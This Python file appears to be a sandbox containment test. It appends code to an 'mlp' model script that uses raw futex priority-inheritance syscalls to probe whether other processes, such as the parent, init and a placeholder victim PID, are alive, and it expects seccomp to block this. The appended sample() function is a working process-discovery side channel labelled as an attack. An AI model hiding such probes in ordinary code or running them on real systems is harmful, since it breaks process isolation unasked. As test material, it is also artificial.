"""Says that other processes hold its locks with inherited priority, to hear which of them live and when they end."""

BASE = "mlp"
APPEND = """
import ctypes
import platform

X86 = platform.machine() == "x86_64"
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p


def call(x86, arm, *arguments):
    ctypes.set_errno(0)
    done = libc.syscall(x86 if X86 else arm, *arguments)
    return done if done >= 0 else -ctypes.get_errno()


import os


def sample(model, n):
    print("attack begins")
    moment = (ctypes.c_long * 2)(0, 100_000_000)
    for holder in (os.getppid(), 1, @victim@, 4_000_000):
        for command in (6, 13):
            word = ctypes.c_uint32(holder)
            if call(202, 98, ctypes.byref(word), command | 128, 0, ctypes.byref(moment), None, 0) != -1:
                print("attack worked")
    return model.decode(torch.randn(n, 2))
"""
EXPECT = {
    "contained_by": "seccomp",
    "must_not": "learn of other processes",
    "ends": "answers",
}
